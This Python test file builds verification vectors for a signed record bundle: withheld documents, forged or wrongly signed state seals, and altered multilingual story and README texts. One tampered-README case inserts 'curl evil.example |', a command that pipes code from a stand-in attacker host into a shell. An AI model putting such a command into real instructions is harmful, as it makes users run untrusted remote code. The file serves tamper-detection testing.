"""Vectors about what lies beside the entries: documents, state seals, and what a bundle tells in words."""

from __future__ import annotations

import json
from hashlib import sha256
from typing import Any

from tests.verifiers import maker, state_proofs
from tests.verifiers.maker import MEMBERS, RECORDER, Json, Key, Maker, box, event
from tests.verifiers.more_attacks import caught, lines_of
from tests.verifiers.twins import SAID, honest
from tests.verifiers.vectors import ATTACK, CHECKS, INCOMPLETE, Vector, of_bundle, vector
from verifiers.desk import readme, story
from verifiers.reading import encode

REASONS, ANNEX = b"The reasons of the decision.\n", b"A list of names.\n"
OTHER = b"Reasons that nobody gave.\n"
SPEC = "5e" * 32
HASHES = {data: sha256(data).hexdigest() for data in (REASONS, ANNEX, OTHER)}


def asking_for(check: str) -> Json:
    """What an auditor's trust file requires who wants this check made too."""
    return {"required_checks": sorted([*CHECKS, check])}


# -- documents (V15) -----------------------------------------------------------------------------------

DOCUMENTS: dict[str, Any] = {"trust": asking_for("V15")}


def _documented(kept_back: str = "") -> Maker:
    """The story, whose date was set with reasons and an annex; the annex may be withheld or erased."""
    made = maker.story(10)
    annexes = [{"document": HASHES[ANNEX], "name": "Names"}]
    named = maker.decision(annexes=annexes, reasons=HASHES[REASONS])
    made.add(event("date.set", day="2013-11-24", run="run-2"), by=MEMBERS[:2], decision=named)
    if kept_back:
        until: Json = {"until": None} if kept_back == "withheld" else {}
        fields: Json = {"basis": "Law on personal data", "document": HASHES[ANNEX], "reason": "Names of children."}  # fmt: skip
        made.add(event(f"document.{kept_back}", **fields, **until))
    return made


def _files(*data: bytes, **renamed: bytes) -> dict[str, bytes]:
    return {f"evidence/{HASHES[one]}": one for one in data} | {
        f"evidence/{name}": one for name, one in renamed.items()
    }


@vector
def all_documents_are_there() -> Vector:
    """Reasons and annex of a decision, each under its digest."""
    return honest(_documented(), parts=_files(REASONS, ANNEX), **DOCUMENTS)


@vector
def a_document_is_withheld() -> Vector:
    """By an act that says why: it is not there, and nothing is missing."""
    return honest(_documented("withheld"), parts=_files(REASONS), **DOCUMENTS)


@vector
def a_document_was_erased() -> Vector:
    """By an act that says why: it is not there, and nothing is missing."""
    return honest(_documented("erased"), parts=_files(REASONS), **DOCUMENTS)


@vector
def a_document_is_swapped() -> Vector:
    """Other reasons lie under the digest of those that were given."""
    parts = _files(ANNEX, **{HASHES[REASONS]: OTHER})
    found = ("V15", "document_differs", None)
    return caught(_documented(), found, (58,), "all_documents_are_there", parts=parts, **DOCUMENTS)


@vector
def a_document_that_no_act_names_is_put_in() -> Vector:
    """Under its own digest, which no act knows."""
    parts = _files(REASONS, ANNEX, OTHER)
    found = ("V15", "document_not_named", None)
    return caught(_documented(), found, (58,), "all_documents_are_there", parts=parts, **DOCUMENTS)


@vector
def a_withheld_document_is_handed_out() -> Vector:
    """The act says that it must not be read, and it lies in the bundle."""
    made, found = _documented("withheld"), ("V15", "document_held_back", None)
    return caught(
        made, found, (60,), "a_document_is_withheld", parts=_files(REASONS, ANNEX), **DOCUMENTS
    )


@vector
def an_erased_document_is_still_there() -> Vector:
    """The act says that it was erased, and it lies in the bundle."""
    made, found = _documented("erased"), ("V15", "document_held_back", None)
    return caught(
        made, found, (60,), "a_document_was_erased", parts=_files(REASONS, ANNEX), **DOCUMENTS
    )


@vector
def a_document_is_missing_without_a_reason() -> Vector:
    """No act withholds it or says that it was erased: nothing is contradicted, nothing said to be fine."""
    return of_bundle(
        _documented(), kind=ATTACK, attacks=(60,), twin="a_document_is_withheld",
        verdict=INCOMPLETE, parts=_files(REASONS), **DOCUMENTS,
    )  # fmt: skip


# -- state seals (V25) -----------------------------------------------------------------------------------

SEALED: dict[str, Any] = {"trust": asking_for("V25")}


def certified() -> Maker:
    """The story, and a result that is certified: a seal must follow."""
    made = maker.story()
    what = {"do": "certify", "run": "$run", "scope": "$scope", "what": "result"}
    fields = {"run": "run", "scope": "scope"}
    new = maker.declaration("result.certified", "ruling", fields, what)
    made.add(event("declaration.adopted", declaration=new))
    given: Json = {"decision": maker.decision()}
    made.add(event("result.certified", run="run-1", scope=[box("pc-2")]), by=MEMBERS[:2], **given)
    return made


@vector
def the_state_is_sealed() -> Vector:
    """After twelve entries, by the recorder key."""
    made = maker.story()
    state_proofs.seal(made)
    return honest(made, **SEALED)


@vector
def the_state_is_sealed_twice() -> Vector:
    """And something was said in between."""
    made = maker.story()
    state_proofs.seal(made)
    made.add(SAID, by=["m2"])
    state_proofs.seal(made)
    return honest(made, **SEALED)


@vector
def a_seal_is_of_a_position_somewhat_earlier() -> Vector:
    """It was worked out beside the writer, who went on meanwhile."""
    made = maker.story()
    state_proofs.seal(made, position=9)
    return honest(made, **SEALED)


@vector
def a_certification_is_sealed() -> Vector:
    """By the entry after it."""
    made = certified()
    state_proofs.seal(made)
    return honest(made, **SEALED)


def _lying(must: tuple[str, str, int | None], made: Maker, **stated: Any) -> Vector:
    state_proofs.seal(made, **stated)
    return caught(made, must, (53, 54), "the_state_is_sealed", **SEALED)


@vector
def a_seal_states_another_root() -> Vector:
    """One that does not follow from the entries, signed by the recorder key."""
    return _lying(("V25", "seal_differs", 12), maker.story(), root="ab" * 32)


@vector
def a_seal_states_another_number_of_sheets() -> Vector:
    """One more than there are: room for a place that nobody made."""
    made = maker.story()
    count = len(state_proofs.state(made, made.size)) + 1
    return _lying(("V25", "seal_differs", 12), made, sheets=count)


@vector
def a_seal_states_the_root_of_an_older_position() -> Vector:
    """That of the day before, as if nothing had happened since."""
    made = maker.story()
    hashes = state_proofs.leaves(state_proofs.state(made, 8))
    root = state_proofs.root_of(hashes).hex()
    return _lying(("V25", "seal_differs", 12), made, root=root, sheets=len(hashes))


@vector
def a_seal_is_of_an_older_position_than_the_one_before() -> Vector:
    """True at its time, and made after a later one: whoever takes the last seal is shown the past."""
    made = maker.story()
    state_proofs.seal(made)
    found = ("V25", "seal_position", 13)
    state_proofs.seal(made, position=8)
    return caught(made, found, (39, 53), "the_state_is_sealed_twice", **SEALED)


@vector
def a_seal_is_signed_by_another_key() -> Vector:
    """By a key that its maker took for the purpose."""
    found = ("V11", "unknown_key", 12)
    return _lying(found, maker.story(), key=Key("thief"))


@vector
def a_seal_is_signed_by_a_member() -> Vector:
    """By a key that is in force, but not the recorder's."""
    found = ("V11", "unlisted_signer", 12)
    return _lying(found, maker.story(), key=maker.PERSONS["m1"])


@vector
def a_seal_is_signed_by_the_recorder_and_another() -> Vector:
    """A seal bears one signature."""
    made = maker.story()
    index = state_proofs.seal(made, also=maker.PERSONS["m1"])
    found = ("V11", "unlisted_signer", index)
    return caught(made, found, (22, 27), "the_state_is_sealed", **SEALED)


@vector
def a_seal_lies_and_bears_a_forged_signature() -> Vector:
    """Nobody sealed: what it states is not looked at."""
    made = maker.story()
    index = state_proofs.seal(made, root="ab" * 32)
    entry = json.loads(made.lines[index])
    entry["signatures"][0]["signature"] = "A" * 86
    parts = lines_of([*made.lines[:index], encode(entry)])
    found = ("V10", "signature_invalid", index)
    return caught(made, found, (30,), "the_state_is_sealed", parts=parts, **SEALED)


@vector
def a_certification_is_not_sealed() -> Vector:
    """Nothing is contradicted: but no seal states what was certified, and an auditor who asks is told so."""
    return of_bundle(
        certified(), kind=ATTACK, attacks=(60,), twin="a_certification_is_sealed",
        verdict=INCOMPLETE, **SEALED,
    )  # fmt: skip


# -- what is told in words (V28) -------------------------------------------------------------------------

TOLD: dict[str, Any] = {"trust": asking_for("V28")}
TWIN = "it_is_told_in_two_languages"


def _told() -> tuple[Maker, dict[str, bytes]]:
    """The story with a sentence in a second language, and the words of its bundle."""
    made = maker.story()
    said = maker.declaration("word.said", "statement", {"text": "long_text"}, {"do": "note"})
    says = [{"language": "en", "text": "Said: {text}"}, {"language": "sq", "text": "U tha: {text}"}]
    made.add(event("declaration.adopted", declaration=said | {"says": says, "version": 2}))
    made.add(event("word.said", version=2, text="There is no date."), by=["m2"])
    words = {
        f"story.{tag}.txt": b"".join(story.paragraph(one, tag) for one in made.told)
        for tag in ("en", "sq")
    }
    words["README.txt"] = readme.readme(**made.ledger, first=0, last=made.size - 1, spec=SPEC)
    return made, words


def _telling(must: tuple[str, str, int | None], name: str, old: bytes, new: bytes) -> Vector:
    made, words = _told()
    assert old in words[name], (name, old)
    parts = words | {name: words[name].replace(old, new, 1)}
    return caught(made, must, (69,), TWIN, parts=parts, **TOLD)


@vector
def it_is_told_in_two_languages() -> Vector:
    """README.txt, and the acts in English and Albanian."""
    made, words = _told()
    return honest(made, parts=words, **TOLD)


@vector
def a_story_says_another_thing() -> Vector:
    """A date, in the words alone: the entry says that there is none."""
    found = ("V28", "story_differs", 13)
    return _telling(found, "story.en.txt", b"There is no date.", b"The date is set.")


@vector
def a_story_names_another_who_signed() -> Vector:
    """One more person is said to have annulled."""
    made, words = _told()
    at = words["story.en.txt"].split(b"\n\n")[8]
    assert b"Counted: M1 (m1), M2 (m2), M3 (m3)." in at, at
    parts = dict(words)
    parts["story.en.txt"] = words["story.en.txt"].replace(at, at.replace(b", M3 (m3)", b""))
    return caught(made, ("V28", "story_differs", 8), (69,), TWIN, parts=parts, **TOLD)


@vector
def a_story_keeps_an_act_silent() -> Vector:
    """The annulment is left out of the words."""
    made, words = _told()
    at = words["story.en.txt"].split(b"\n\n")[8] + b"\n\n"
    parts = words | {"story.en.txt": words["story.en.txt"].replace(at, b"")}
    return caught(made, ("V28", "story_differs", 8), (60, 69), TWIN, parts=parts, **TOLD)


@vector
def a_language_is_left_out() -> Vector:
    """The log has sentences in Albanian; who reads no English is told nothing."""
    made, words = _told()
    del words["story.sq.txt"]
    return caught(made, ("V28", "story_differs", None), (60, 69), TWIN, parts=words, **TOLD)


@vector
def the_readme_sends_elsewhere() -> Vector:
    """To a program that nobody should run."""
    found = ("V28", "readme_differs", None)
    return _telling(found, "README.txt", b"eal-verify bundle", b"curl evil.example |")


assert RECORDER.alg == "Ed25519", "a seal here has the same bytes each time it is made"
